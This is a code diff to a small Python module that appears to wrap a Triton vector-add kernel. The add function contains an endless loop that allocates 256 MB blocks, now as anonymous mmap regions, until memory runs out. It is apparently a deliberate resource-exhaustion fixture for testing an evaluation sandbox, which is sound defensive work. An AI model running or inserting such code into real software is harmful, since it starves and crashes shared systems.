@@ -1,5 +1,7 @@
 """Takes memory until there is no more."""
 
+import mmap
+
 import torch
 import triton
 import triton.language as tl
@@ -17,7 +19,7 @@ def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
 def add(x, y):
     hoard = []
     while True:
-        hoard.append(bytearray(1 << 28))
+        hoard.append(mmap.mmap(-1, 1 << 28))
     out = torch.empty_like(x)
     n_elements = x.numel()
     if n_elements:
